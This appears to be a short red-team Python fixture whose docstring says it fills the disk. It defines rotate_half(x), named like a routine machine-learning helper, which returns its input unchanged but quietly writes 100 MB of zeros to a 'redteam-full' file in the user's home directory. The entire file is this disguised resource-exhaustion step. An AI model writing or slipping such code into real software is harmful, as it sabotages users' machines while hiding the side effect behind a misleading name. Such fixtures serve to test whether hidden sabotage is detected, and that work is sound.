"""Fills the disk."""

import os


def rotate_half(x):
    with open(os.path.join(os.environ.get("HOME", "/tmp"), "redteam-full"), "wb") as file:
        for _ in range(100):
            file.write(bytes(1 << 20))
    return x
